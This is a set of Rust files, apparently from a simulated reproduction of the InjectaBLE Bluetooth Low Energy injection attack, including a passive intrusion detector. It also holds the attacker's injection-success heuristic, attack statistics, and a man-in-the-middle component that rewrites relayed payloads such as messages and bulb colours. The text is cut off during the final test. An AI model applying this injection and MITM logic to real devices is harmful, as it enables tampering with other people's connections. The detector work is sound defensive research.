            adaptive_widening: false,
        }
    }
}

/// Passive Link-Layer intrusion detector for InjectaBLE-style injection.
///
/// Add it to a simulation as a fourth, silent node and inspect
/// [`InjectionDetector::alerts`] afterwards. See
/// `crates/bench/src/bin/ids_detection.rs` for the detection-rate
/// experiment.
pub struct InjectionDetector {
    cfg: DetectorConfig,
    sniffer: ConnectionSniffer,
    conn: Option<TrackedConnection>,
    /// EWMA of the interval correction factor (measured / nominal).
    interval_correction: f64,
    events_observed: u32,
    alerts: Vec<Alert>,
    scanning_pos: usize,
    window_frames: Vec<(Instant, Instant, bool)>,
    window_deadline_armed: bool,
    timer_gen: u64,
    expected_gen: [u64; 3],
    /// Predicted anchor of the currently open window (true-time estimate).
    predicted_anchor: Instant,
    /// EWMA of recent |anchor prediction error| (µs); feeds the widened
    /// band when [`DetectorConfig::adaptive_widening`] is on.
    band_us: f64,
}

impl InjectionDetector {
    /// Creates a detector monitoring any connection (or lock it to a slave
    /// with [`InjectionDetector::for_slave`]).
    pub fn new(cfg: DetectorConfig) -> Self {
        InjectionDetector {
            cfg,
            sniffer: ConnectionSniffer::new(),
            conn: None,
            interval_correction: 1.0,
            events_observed: 0,
            alerts: Vec::new(),
            scanning_pos: 0,
            window_frames: Vec::new(),
            window_deadline_armed: false,
            timer_gen: 0,
            expected_gen: [0; 3],
            predicted_anchor: Instant::ZERO,
            band_us: 0.0,
        }
    }

    /// Effective early-anchor threshold: the configured base, plus — when
    /// adaptive widening is on — a band tracking the recent prediction
    /// error, capped at twice the base so a genuine injection (a full
    /// window widening, tens of µs early) still clears it.
    fn effective_threshold_us(&self) -> f64 {
        let base = self.cfg.early_anchor_threshold_us;
        if self.cfg.adaptive_widening {
            base + (1.5 * self.band_us).min(2.0 * base)
        } else {
            base
        }
    }

    /// Feeds one observed prediction error into the adaptive band. Errors
    /// beyond any plausible drift (several thresholds) are excluded so an
    /// injected frame cannot widen its own hiding place.
    fn note_prediction_error(&mut self, early_us: f64) {
        if !self.cfg.adaptive_widening {
            return;
        }
        let mag = early_us.abs();
        if mag < 4.0 * self.cfg.early_anchor_threshold_us {
            self.band_us = 0.7 * self.band_us + 0.3 * mag;
        }
    }

    /// Restricts monitoring to connections with this slave.
    pub fn for_slave(mut self, slave: ble_link::DeviceAddress) -> Self {
        self.sniffer = ConnectionSniffer::for_slave(slave);
        self
    }

    /// Starts scanning for a connection to monitor.
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.scan(ctx, 0);
    }

    /// Alerts raised so far.
    pub fn alerts(&self) -> &[Alert] {
        &self.alerts
    }

    /// Connection events observed so far.
    pub fn events_observed(&self) -> u32 {
        self.events_observed
    }

    /// Whether the monitor is currently following a connection.
    pub fn is_monitoring(&self) -> bool {
        self.conn.is_some()
    }

    fn arm(&mut self, ctx: &mut NodeCtx<'_>, reference: Instant, delay: Duration, p: u64) {
        self.timer_gen += 1;
        self.expected_gen[(p - T_EVENT) as usize] = self.timer_gen;
        ctx.set_timer_local_from(reference, delay, TimerKey(p | (self.timer_gen << 8)));
    }

    fn timer_purpose(&self, key: TimerKey) -> Option<u64> {
        let p = key.0 & 0xFF;
        if !(T_EVENT..=T_SCAN_HOP).contains(&p) {
            return None;
        }
        (self.expected_gen[(p - T_EVENT) as usize] == key.0 >> 8).then_some(p)
    }

    fn scan(&mut self, ctx: &mut NodeCtx<'_>, pos: usize) {
        self.scanning_pos = pos;
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        ctx.start_rx(
            Channel::ADVERTISING[pos],
            AccessFilter::One(ble_phy::AccessAddress::ADVERTISING),
            ble_phy::ADVERTISING_CRC_INIT,
        );
        let now = ctx.now();
        self.arm(ctx, now, Duration::from_millis(9), T_SCAN_HOP);
    }

    fn schedule_window(&mut self, ctx: &mut NodeCtx<'_>) {
        let correction = self.interval_correction;
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        let plan = conn.plan_next();
        // Open generously early (widening + margin) and close well after.
        let corrected = plan.delay_from_anchor.mul_f64(correction);
        let lead = plan.widening + Duration::from_micros(120);
        let anchor = conn.last_anchor;
        self.predicted_anchor = anchor + corrected;
        self.window_frames.clear();
        self.window_deadline_armed = false;
        self.arm(ctx, anchor.saturating_sub(lead), corrected, T_EVENT);
    }

    fn open_window(&mut self, ctx: &mut NodeCtx<'_>) {
        let Some(conn) = self.conn.as_ref() else {
            return;
        };
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        ctx.start_rx(
            conn.current_channel,
            AccessFilter::One(conn.params.access_address),
            conn.params.crc_init,
        );
        let now = ctx.now();
        self.arm(ctx, now, Duration::from_micros(3_000), T_CLOSE);
    }

    fn close_window(&mut self, ctx: &mut NodeCtx<'_>) {
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        self.analyse_window(ctx);
        let lost = {
            let Some(conn) = self.conn.as_mut() else {
                return;
            };
            if self.window_frames.is_empty() {
                conn.missed_event();
            }
            conn.missed_streak > 24
        };
        if lost {
            self.conn = None;
            self.scan(ctx, 0);
            return;
        }
        self.schedule_window(ctx);
    }

    /// Post-event analysis: the detection rules.
    fn analyse_window(&mut self, ctx: &mut NodeCtx<'_>) {
        let frames = std::mem::take(&mut self.window_frames);
        let threshold_us = self.effective_threshold_us();
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        let Some(&(first_start, first_end, _)) = frames.first() else {
            return;
        };
        self.events_observed += 1;
        let warmed_up = self.events_observed > self.cfg.warmup_events;

        // Update the drift-compensated interval estimate from consecutive
        // clean observations.
        let early_us = self.predicted_anchor.signed_delta_ns(first_start) as f64 / 1_000.0;
        if warmed_up && early_us > threshold_us {
            self.alerts.push(Alert::EarlyAnchor {
                at: first_start,
                early_us,
            });
            ctx.emit(|| TelemetryEvent::DetectorAlert {
                kind: AlertKind::EarlyAnchor,
                magnitude_us: early_us,
            });
        } else {
            // Treat as legitimate: refine the interval correction.
            let predicted = self.predicted_anchor;
            let nominal = predicted.signed_delta_ns(conn.last_anchor) as f64;
            if nominal > 0.0 {
                let measured = first_start.signed_delta_ns(conn.last_anchor) as f64;
                let ratio = measured / nominal;
                if (0.995..=1.005).contains(&ratio) {
                    let updated =
                        0.9 * self.interval_correction + 0.1 * (self.interval_correction * ratio);
                    // Clocks cannot disagree by more than ±200 ppm; clamping
                    // keeps a single attack-displaced anchor from poisoning
                    // the estimator (and alarming forever after).
                    self.interval_correction = updated.clamp(0.9998, 1.0002);
                }
            }
        }
        conn.observe_anchor(first_start);
        self.note_prediction_error(early_us);

        // Double anchor: a second Master-side frame starting within the
        // window-widening span of the first, *before* any response slot.
        if frames.len() >= 2 {
            let (second_start, _, _) = frames[1];
            let gap_ns = second_start.signed_delta_ns(first_end);
            // A legitimate Slave response starts IFS (150 µs) after the
            // first frame; anything substantially earlier is a second,
            // overlapping-or-adjacent anchor frame.
            if warmed_up && (0..120_000).contains(&gap_ns) {
                self.alerts.push(Alert::DoubleAnchor {
                    first: first_start,
                    second: second_start,
                });
                ctx.emit(|| TelemetryEvent::DetectorAlert {
                    kind: AlertKind::DoubleAnchor,
                    magnitude_us: gap_ns as f64 / 1_000.0,
                });
            }
            // Response-timing check on the *last* frame pair: response must
            // trail its predecessor by exactly IFS.
            if frames.len() >= 2 {
                let (resp_start, _, _) = frames[frames.len() - 1];
                let (_, prev_end, _) = frames[frames.len() - 2];
                let expected = prev_end + Duration::from_micros(150);
                let delta_us = resp_start.signed_delta_ns(expected).unsigned_abs() as f64 / 1_000.0;
                if warmed_up && delta_us > self.cfg.response_tolerance_us && gap_ns >= 120_000 {
                    self.alerts.push(Alert::ResponseTimingMismatch {
                        expected,
                        observed: resp_start,
                    });
                    ctx.emit(|| TelemetryEvent::DetectorAlert {
                        kind: AlertKind::ResponseTimingMismatch,
                        magnitude_us: delta_us,
                    });
                }
            }
        }
    }
}

impl RadioListener for InjectionDetector {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        match event {
            RadioEvent::Timer { key, .. } => match self.timer_purpose(key) {
                Some(T_SCAN_HOP) if self.conn.is_none() => {
                    let next = (self.scanning_pos + 1) % 3;
                    self.scan(ctx, next);
                }
                Some(T_EVENT) => self.open_window(ctx),
                Some(T_CLOSE) => self.close_window(ctx),
                _ => {}
            },
            RadioEvent::FrameReceived(frame) => {
                if self.conn.is_none() {
                    if let SnifferEvent::ConnectionDetected(tracked) = self.sniffer.process(&frame)
                    {
                        self.conn = Some(*tracked);
                        self.interval_correction = 1.0;
                        self.events_observed = 0;
                        self.band_us = 0.0;
                        self.schedule_window(ctx);
                    }
                    return;
                }
                // Within a monitoring window: record (start, end, crc_ok).
                self.window_frames
                    .push((frame.start, frame.end, frame.crc_ok));
                // Keep tracking control procedures so we stay synchronised.
                if let (Some(conn), true) = (self.conn.as_mut(), frame.crc_ok) {
                    if self.window_frames.len() % 2 == 1 {
                        if let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) {
                            if pdu.header.llid == ble_link::Llid::Control {
                                if let Ok(ctrl) = ble_link::ControlPdu::from_bytes(&pdu.payload) {
                                    if conn.observe_master_control(&ctrl) {
                                        self.conn = None;
                                    }
                                }
                            }
                        }
                    }
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_thresholds_are_sane() {
        let cfg = DetectorConfig::default();
        // Legit drift per 45 ms interval at 100 ppm is 4.5 µs — below the
        // early-anchor threshold; a 36 µs widening jump is far above it.
        assert!(cfg.early_anchor_threshold_us > 5.0);
        assert!(cfg.early_anchor_threshold_us < 32.0);
    }

    #[test]
    fn alerts_start_empty() {
        let d = InjectionDetector::new(DetectorConfig::default());
        assert!(d.alerts().is_empty());
        assert!(!d.is_monitoring());
        assert_eq!(d.events_observed(), 0);
    }

    #[test]
    fn strict_threshold_ignores_the_observed_errors() {
        let mut d = InjectionDetector::new(DetectorConfig::default());
        let base = d.cfg.early_anchor_threshold_us;
        for e in [3.0, 9.0, 18.0, 24.0] {
            d.note_prediction_error(e);
            assert_eq!(d.effective_threshold_us(), base);
        }
    }

    #[test]
    fn adaptive_band_absorbs_a_gradual_drift_ramp() {
        // A drift excursion ramps the per-event anchor error past the
        // strict 15 µs threshold. The strict detector would alert from
        // 18 µs on; the adaptive band must stay ahead of the ramp.
        let mut d = InjectionDetector::new(DetectorConfig {
            adaptive_widening: true,
            ..DetectorConfig::default()
        });
        let strict = DetectorConfig::default().early_anchor_threshold_us;
        let mut strict_would_alert = 0;
        for e in [3.0, 6.0, 9.0, 12.0, 15.0, 18.0, 21.0, 24.0] {
            if e > strict {
                strict_would_alert += 1;
            }
            assert!(
                e <= d.effective_threshold_us(),
                "adaptive band must absorb a {e} µs drift error \
                 (threshold {})",
                d.effective_threshold_us()
            );
            d.note_prediction_error(e);
        }
        assert!(
            strict_would_alert >= 3,
            "the ramp must stress the strict detector"
        );
    }

    #[test]
    fn adaptive_band_still_catches_a_sudden_injection() {
        // The widened band is capped at 3x the base threshold; an injected
        // frame arriving a full widening (here 150 µs) early always clears
        // it, and the outlier is excluded from the band update.
        let mut d = InjectionDetector::new(DetectorConfig {
            adaptive_widening: true,
            ..DetectorConfig::default()
        });
        for e in [6.0, 12.0, 18.0, 24.0] {
            d.note_prediction_error(e);
        }
        let before = d.effective_threshold_us();
        assert!(150.0 > before, "injection exceeds the widened band");
        d.note_prediction_error(150.0);
        assert_eq!(
            d.effective_threshold_us(),
            before,
            "an injection-sized outlier must not widen its own hiding place"
        );
    }
}
