//! The paper's injection-success heuristic (eq. 7).
//!
//! The attacker cannot observe the collision at the Slave directly (it is
//! busy transmitting), so success is inferred from the Slave's response:
//!
//! 1. **Timing**: the Slave answers 150 µs after the end of the frame it
//!    anchored on. If that frame was ours, its response starts inside
//!    `t_a + d_a + 150 µs ± 5 µs` (the paper's empirically-measured window).
//! 2. **Acknowledgement**: a CRC-valid reception advances the Slave's NESN;
//!    eq. 7 checks `(SN_a + 1) mod 2 == NESN'_s ∧ NESN_a == SN'_s`.

use simkit::{Duration, Instant};

/// The paper's ±5 µs tolerance around the expected response start.
pub const RESPONSE_TOLERANCE: Duration = Duration::from_micros(5);

/// The inter-frame spacing used in the timing check.
const T_IFS: Duration = Duration::from_micros(150);

/// What the attacker knows about its own injection attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct InjectionAttempt {
    /// Start of transmission of the injected frame (`t_a`).
    pub t_a: Instant,
    /// Transmission duration of the injected frame (`d_a`).
    pub d_a: Duration,
    /// The injected frame's SN bit (`SN_a`).
    pub sn_a: bool,
    /// The injected frame's NESN bit (`NESN_a`).
    pub nesn_a: bool,
}

impl InjectionAttempt {
    /// The expected start of the Slave's response if the injection won:
    /// `t_a + d_a + 150 µs`.
    pub fn expected_response_start(&self) -> Instant {
        self.t_a + self.d_a + T_IFS
    }
}

/// What the attacker observed after the attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ObservedResponse {
    /// Start of transmission of the Slave's response (`t_s`).
    pub t_s: Instant,
    /// The response's SN bit (`SN'_s`).
    pub sn_s: bool,
    /// The response's NESN bit (`NESN'_s`).
    pub nesn_s: bool,
}

/// Evaluates the paper's propositional formula 7:
///
/// ```text
/// (t_a + d_a + 150 − 5 < t_s < t_a + d_a + 150 + 5)
///   ∧ ((SN_a + 1) mod 2 = NESN'_s)
///   ∧ (NESN_a = SN'_s)
/// ```
///
/// # Example
///
/// ```
/// use injectable::heuristic::{injection_succeeded, InjectionAttempt, ObservedResponse};
/// use simkit::{Duration, Instant};
///
/// let attempt = InjectionAttempt {
///     t_a: Instant::from_micros(1000),
///     d_a: Duration::from_micros(176),
///     sn_a: false,
///     nesn_a: true,
/// };
/// let response = ObservedResponse {
///     t_s: Instant::from_micros(1000 + 176 + 150),
///     sn_s: true,   // == NESN_a
///     nesn_s: true, // == SN_a + 1
/// };
/// assert!(injection_succeeded(&attempt, &response));
/// ```
pub fn injection_succeeded(attempt: &InjectionAttempt, response: &ObservedResponse) -> bool {
    let expected = attempt.expected_response_start();
    let lo = expected - RESPONSE_TOLERANCE;
    let hi = expected + RESPONSE_TOLERANCE;
    let timing_ok = response.t_s > lo && response.t_s < hi;
    let nesn_ok = attempt.sn_a != response.nesn_s;
    let sn_ok = attempt.nesn_a == response.sn_s;
    timing_ok && nesn_ok && sn_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    fn attempt() -> InjectionAttempt {
        InjectionAttempt {
            t_a: Instant::from_micros(10_000),
            d_a: Duration::from_micros(176),
            sn_a: true,
            nesn_a: false,
        }
    }

    fn good_response() -> ObservedResponse {
        ObservedResponse {
            t_s: attempt().expected_response_start(),
            sn_s: false,   // == NESN_a
            nesn_s: false, // == (SN_a + 1) mod 2
        }
    }

    #[test]
    fn exact_response_succeeds() {
        assert!(injection_succeeded(&attempt(), &good_response()));
    }

    #[test]
    fn response_within_tolerance_succeeds() {
        for offset_ns in [-4_900i64, -1, 1, 4_900] {
            let mut r = good_response();
            r.t_s = r.t_s.offset_ns(offset_ns);
            assert!(injection_succeeded(&attempt(), &r), "{offset_ns}");
        }
    }

    #[test]
    fn response_outside_tolerance_fails() {
        for offset_ns in [-5_000i64, -6_000, 5_000, 50_000, 1_000_000] {
            let mut r = good_response();
            r.t_s = r.t_s.offset_ns(offset_ns);
            assert!(!injection_succeeded(&attempt(), &r), "{offset_ns}");
        }
    }

    #[test]
    fn unacknowledged_nesn_fails() {
        // CRC-corrupted injection: the Slave's NESN does not advance.
        let mut r = good_response();
        r.nesn_s = !r.nesn_s;
        assert!(!injection_succeeded(&attempt(), &r));
    }

    #[test]
    fn wrong_sn_fails() {
        let mut r = good_response();
        r.sn_s = !r.sn_s;
        assert!(!injection_succeeded(&attempt(), &r));
    }

    #[test]
    fn all_seq_combinations_consistent() {
        // Exhaustive check of the boolean algebra in eq. 6/7: the heuristic
        // passes exactly when the response matches the forged bits.
        for sn_a in [false, true] {
            for nesn_a in [false, true] {
                let a = InjectionAttempt {
                    t_a: Instant::from_micros(0),
                    d_a: Duration::from_micros(100),
                    sn_a,
                    nesn_a,
                };
                for sn_s in [false, true] {
                    for nesn_s in [false, true] {
                        let r = ObservedResponse {
                            t_s: a.expected_response_start(),
                            sn_s,
                            nesn_s,
                        };
                        let expected = (nesn_s != sn_a) && (sn_s == nesn_a);
                        assert_eq!(injection_succeeded(&a, &r), expected);
                    }
                }
            }
        }
    }
}
