//! Attack statistics — the measurements the paper's Figure 9 reports.

use simkit::Instant;

/// Outcome of one injection attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptOutcome {
    /// The heuristic (eq. 7) confirmed the injection.
    Success,
    /// A Slave response was observed but failed the heuristic.
    Rejected,
    /// No Slave response was observed at all.
    NoResponse,
}

/// Per-run injection statistics.
///
/// The paper's key metric is "the number of injection attempts before a
/// successful injection" (§VII): [`AttackStats::attempts_per_success`]
/// records exactly that, one entry per confirmed success.
#[derive(Debug, Clone, Default)]
pub struct AttackStats {
    /// Total injection attempts made.
    pub attempts_total: u32,
    /// Attempts since the last confirmed success.
    pub attempts_since_success: u32,
    /// For each confirmed success: how many attempts it took.
    pub attempts_per_success: Vec<u32>,
    /// Log of every attempt: (time, outcome).
    pub log: Vec<(Instant, AttemptOutcome)>,
    /// Connections followed (sniffer synchronisations).
    pub connections_followed: u32,
    /// Connections lost while following (desynchronised or terminated).
    pub connections_lost: u32,
}

impl AttackStats {
    /// Records one attempt and its outcome. Counters saturate instead of
    /// wrapping: a release-mode campaign that somehow exceeds `u32::MAX`
    /// attempts must not fold its statistics back to zero.
    pub fn record(&mut self, at: Instant, outcome: AttemptOutcome) {
        self.attempts_total = self.attempts_total.saturating_add(1);
        self.attempts_since_success = self.attempts_since_success.saturating_add(1);
        self.log.push((at, outcome));
        if outcome == AttemptOutcome::Success {
            self.attempts_per_success.push(self.attempts_since_success);
            self.attempts_since_success = 0;
        }
    }

    /// Records one sniffer synchronisation (saturating).
    pub fn record_connection_followed(&mut self) {
        self.connections_followed = self.connections_followed.saturating_add(1);
    }

    /// Records one lost connection (saturating).
    pub fn record_connection_lost(&mut self) {
        self.connections_lost = self.connections_lost.saturating_add(1);
    }

    /// Number of confirmed successful injections.
    pub fn successes(&self) -> usize {
        self.attempts_per_success.len()
    }

    /// Attempts needed for the first success, if any succeeded.
    pub fn attempts_to_first_success(&self) -> Option<u32> {
        self.attempts_per_success.first().copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_attempts_per_success() {
        let mut s = AttackStats::default();
        let t = Instant::ZERO;
        s.record(t, AttemptOutcome::NoResponse);
        s.record(t, AttemptOutcome::Rejected);
        s.record(t, AttemptOutcome::Success);
        s.record(t, AttemptOutcome::Success);
        s.record(t, AttemptOutcome::Rejected);
        assert_eq!(s.attempts_total, 5);
        assert_eq!(s.attempts_per_success, vec![3, 1]);
        assert_eq!(s.successes(), 2);
        assert_eq!(s.attempts_to_first_success(), Some(3));
        assert_eq!(s.attempts_since_success, 1);
    }

    #[test]
    fn empty_stats() {
        let s = AttackStats::default();
        assert_eq!(s.successes(), 0);
        assert_eq!(s.attempts_to_first_success(), None);
    }

    #[test]
    fn counters_saturate_instead_of_wrapping() {
        let mut s = AttackStats {
            attempts_total: u32::MAX,
            attempts_since_success: u32::MAX,
            connections_followed: u32::MAX,
            connections_lost: u32::MAX,
            ..AttackStats::default()
        };
        s.record(Instant::ZERO, AttemptOutcome::Rejected);
        assert_eq!(s.attempts_total, u32::MAX);
        assert_eq!(s.attempts_since_success, u32::MAX);
        s.record_connection_followed();
        s.record_connection_lost();
        assert_eq!(s.connections_followed, u32::MAX);
        assert_eq!(s.connections_lost, u32::MAX);
        // A success still resets the per-success counter.
        s.record(Instant::ZERO, AttemptOutcome::Success);
        assert_eq!(s.attempts_since_success, 0);
        assert_eq!(s.attempts_per_success, vec![u32::MAX]);
    }
}
