//! Man-in-the-Middle support (paper scenario D).
//!
//! After the forged `CONNECTION_UPDATE` takes effect, the Slave lives on
//! the attacker's new timing while the legitimate Master continues on the
//! old one. The attacker then speaks to *both*: one radio follows the Slave
//! as a fake Master (handled inside [`crate::Attacker`]), a second,
//! co-located radio impersonates the Slave towards the legitimate Master —
//! this module's [`MitmSlaveHalf`].
//!
//! (The paper performs this with a single nRF52840 that time-multiplexes
//! both roles; two co-located simulated radios are behaviourally equivalent
//! for the protocol-level questions studied here and keep the state
//! machines honest. The substitution is documented in `DESIGN.md`.)

use std::collections::VecDeque;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use ble_host::{HostEvent, HostStack, SecurityAction};
use ble_link::{AdoptedConnection, LinkLayer, SleepClockAccuracy};
use ble_phy::{NodeCtx, RadioEvent, RadioListener, TimerKey};
use simkit::Duration;

/// An app-payload rewrite applied to traffic relayed through the MITM —
/// the paper's "SMS transmitted by the smartphone to the smartwatch has
/// been modified on the fly".
#[derive(Debug, Clone)]
pub struct RewriteRule {
    /// Only rewrite writes to this handle (`None` = all handles).
    pub handle: Option<u16>,
    /// Byte pattern to search for.
    pub find: Vec<u8>,
    /// Replacement bytes.
    pub replace: Vec<u8>,
}

impl RewriteRule {
    /// Applies the rule to a value, returning the rewritten bytes.
    pub fn apply(&self, handle: u16, value: &[u8]) -> Vec<u8> {
        if let Some(h) = self.handle {
            if h != handle {
                return value.to_vec();
            }
        }
        if self.find.is_empty() || self.find.len() > value.len() {
            return value.to_vec();
        }
        let mut out = Vec::with_capacity(value.len());
        let mut i = 0;
        while i < value.len() {
            if value[i..].starts_with(&self.find) {
                out.extend_from_slice(&self.replace);
                i += self.find.len();
            } else {
                out.push(value[i]);
                i += 1;
            }
        }
        out
    }
}

/// State shared between the two MITM halves.
#[derive(Debug, Default)]
pub struct MitmShared {
    /// Connection state for the slave half, posted by the attacker at the
    /// update instant.
    pub slave_adoption: Option<AdoptedConnection>,
    /// Writes intercepted from the legitimate Master, already rewritten,
    /// waiting to be forwarded to the real Slave: (handle, value, acked).
    pub to_slave: VecDeque<(u16, Vec<u8>, bool)>,
    /// Raw writes as the legitimate Master sent them (for reporting).
    pub intercepted: Vec<(u16, Vec<u8>)>,
    /// Whether to forward intercepted traffic at all (`false` = blackhole,
    /// the paper's "not forwarding the legitimate traffic to perform a
    /// denial of service").
    pub forward: bool,
}

/// Shared handle between [`crate::Attacker`] and [`MitmSlaveHalf`].
/// Thread-safe so both halves stay [`Send`] inside an arena-owned world.
#[derive(Debug, Clone)]
pub struct MitmHandoff(Arc<Mutex<MitmShared>>);

impl MitmHandoff {
    /// Locks the shared state. Lock poisoning is recovered (`into_inner`):
    /// the handoff only carries queues, and a panicking half cannot leave
    /// them in a state the other half mis-parses.
    pub fn lock(&self) -> MutexGuard<'_, MitmShared> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// Creates a fresh handoff with forwarding enabled.
pub fn new_handoff() -> MitmHandoff {
    MitmHandoff(Arc::new(Mutex::new(MitmShared {
        forward: true,
        ..MitmShared::default()
    })))
}

const POLL_TIMER: u64 = 0x90;

/// The MITM's Slave-facing half: impersonates the victim Slave towards the
/// legitimate Master on the *old* connection timeline.
pub struct MitmSlaveHalf {
    /// Link layer for the impersonated slave.
    pub ll: LinkLayer,
    /// Host stack exposing a mirror GATT profile.
    pub host: HostStack,
    handoff: MitmHandoff,
    rewrites: Vec<RewriteRule>,
    adopted: bool,
    started: bool,
}

impl MitmSlaveHalf {
    /// Creates the slave half. `host` should expose a GATT profile
    /// mirroring the real Slave's (so the Master's writes land on matching
    /// handles).
    pub fn new(host: HostStack, handoff: MitmHandoff, rewrites: Vec<RewriteRule>) -> Self {
        // Address is irrelevant post-adoption; reuse the host's GATT.
        let address = ble_link::DeviceAddress::new([0xEE; 6], ble_link::AddressType::Random);
        MitmSlaveHalf {
            ll: LinkLayer::new(address, SleepClockAccuracy::Ppm20),
            host,
            handoff,
            rewrites,
            adopted: false,
            started: false,
        }
    }

    /// Arms the adoption-poll timer (called from `World::start`).
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.started = true;
        ctx.set_timer_local(Duration::from_millis(2), TimerKey(POLL_TIMER));
    }

    fn pump(&mut self, ctx: &mut NodeCtx<'_>) {
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { .. } => {
                    // The MITM cannot complete encryption without the LTK;
                    // ignore (plaintext connections only, like the paper).
                }
            }
        }
        let _ = ctx;
        while let Some(event) = self.host.poll_event() {
            if let HostEvent::Written {
                handle,
                value,
                acknowledged,
            } = &event
            {
                let mut shared = self.handoff.lock();
                shared.intercepted.push((*handle, value.to_vec()));
                if shared.forward {
                    let mut rewritten = value.to_vec();
                    for rule in &self.rewrites {
                        rewritten = rule.apply(*handle, &rewritten);
                    }
                    shared
                        .to_slave
                        .push_back((*handle, rewritten, *acknowledged));
                }
            }
        }
    }
}

impl RadioListener for MitmSlaveHalf {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { key, .. } = &event {
            if key.0 == POLL_TIMER {
                if !self.adopted {
                    let adoption = self.handoff.lock().slave_adoption.take();
                    if let Some(adoption) = adoption {
                        self.adopted = true;
                        self.ll.adopt_connection(ctx, adoption, &mut self.host);
                    } else {
                        ctx.set_timer_local(Duration::from_millis(2), TimerKey(POLL_TIMER));
                    }
                }
                self.pump(ctx);
                return;
            }
        }
        self.ll.handle(ctx, event, &mut self.host);
        self.pump(ctx);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rewrite_replaces_matches() {
        let rule = RewriteRule {
            handle: None,
            find: b"noon".to_vec(),
            replace: b"MIDNIGHT".to_vec(),
        };
        assert_eq!(rule.apply(1, b"meet at noon"), b"meet at MIDNIGHT");
        assert_eq!(rule.apply(1, b"no match here"), b"no match here");
    }

    #[test]
    fn rewrite_respects_handle_filter() {
        let rule = RewriteRule {
            handle: Some(7),
            find: b"a".to_vec(),
            replace: b"b".to_vec(),
        };
        assert_eq!(rule.apply(7, b"aaa"), b"bbb");
        assert_eq!(rule.apply(8, b"aaa"), b"aaa");
    }

    #[test]
    fn rewrite_handles_multiple_and_empty() {
        let rule = RewriteRule {
            handle: None,
            find: b"ab".to_vec(),
            replace: b"X".to_vec(),
        };
        assert_eq!(rule.apply(0, b"abab!ab"), b"XX!X");
        let empty = RewriteRule {
            handle: None,
            find: vec![],
            replace: b"Y".to_vec(),
        };
        assert_eq!(empty.apply(0, b"zz"), b"zz");
    }

    #[test]
    fn rgb_value_rewrite() {
        // Paper: "the RGB values describing the colour of the lightbulb
        // have also been altered on the fly".
        let rule = RewriteRule {
            handle: Some(5),
            find: vec![0x02, 255, 0, 0],
            replace: vec![0x02, 0, 255, 0],
        };
        assert_eq!(rule.apply(5, &[0x02, 255, 0, 0]), vec![0x02, 0, 255, 0]);
    }
}
