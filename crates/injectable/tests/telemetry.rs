//! Telemetry integration: a scenario-A attack streams its typed events
//! into attached sinks in storyline order (sync → attempt → verdict), and
//! the metrics registry agrees with the attacker's own statistics.

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use ble_scenario::ScenarioBuilder;
use ble_telemetry::{MetricsSink, RingBufferSink, TelemetryEvent, Verdict};
use injectable::{Mission, MissionState};
use simkit::Duration;

#[test]
fn scenario_a_emits_attempt_then_verdict_into_sinks() {
    let mut s = ScenarioBuilder::attack_rig(1).hop_interval(36).build();
    let ring = RingBufferSink::new(1 << 16);
    let records = ring.handle();
    let metrics = MetricsSink::new();
    let registry = metrics.handle();
    s.world.add_telemetry_sink(Box::new(ring));
    s.world.add_telemetry_sink(Box::new(metrics));
    s.run_until_connected();

    let att = AttPdu::WriteRequest {
        handle: s.victim_control_handle(),
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(20));
    assert_eq!(s.attacker().mission_state(), MissionState::Complete);

    let ring = records.lock();
    // The attack storyline appears in order: the sniffer synchronises, an
    // injection attempt fires, a heuristic verdict confirms a success.
    let sync = ring
        .position(|r| matches!(r.event, TelemetryEvent::SnifferSync { .. }))
        .expect("sniffer sync event");
    let attempt = ring
        .position(|r| matches!(r.event, TelemetryEvent::InjectionAttempt { .. }))
        .expect("injection attempt event");
    let success = ring
        .position(|r| {
            matches!(
                r.event,
                TelemetryEvent::HeuristicVerdict {
                    verdict: Verdict::Success,
                    ..
                }
            )
        })
        .expect("confirmed-success verdict event");
    assert!(
        sync < attempt,
        "sync ({sync}) must precede attempt ({attempt})"
    );
    assert!(
        attempt < success,
        "attempt ({attempt}) must precede verdict ({success})"
    );

    // Every attempt received exactly one verdict.
    let attempts = ring.count_events(|e| matches!(e, TelemetryEvent::InjectionAttempt { .. }));
    let verdicts = ring.count_events(|e| matches!(e, TelemetryEvent::HeuristicVerdict { .. }));
    assert!(attempts >= 1);
    assert_eq!(attempts, verdicts);

    // The metrics sink classified the same stream consistently, and agrees
    // with the attacker's own statistics. (The sink buffers tallies until
    // the world flushes its sinks.) The ring guard must be released first:
    // flushing closes still-open spans, which emits records into every
    // attached sink — including the ring whose mutex the guard holds.
    drop(ring);
    s.world.flush_telemetry();
    let reg = registry.lock();
    let stats_attempts = u64::from(s.attacker().stats().attempts_total);
    assert_eq!(reg.counter("attack.attempts"), stats_attempts);
    assert!(reg.counter("attack.success") >= 1);
    assert!(
        reg.counter("link.anchor") > 0,
        "link-layer anchors recorded"
    );
    assert!(reg.counter("phy.tx") > 0, "PHY transmissions recorded");
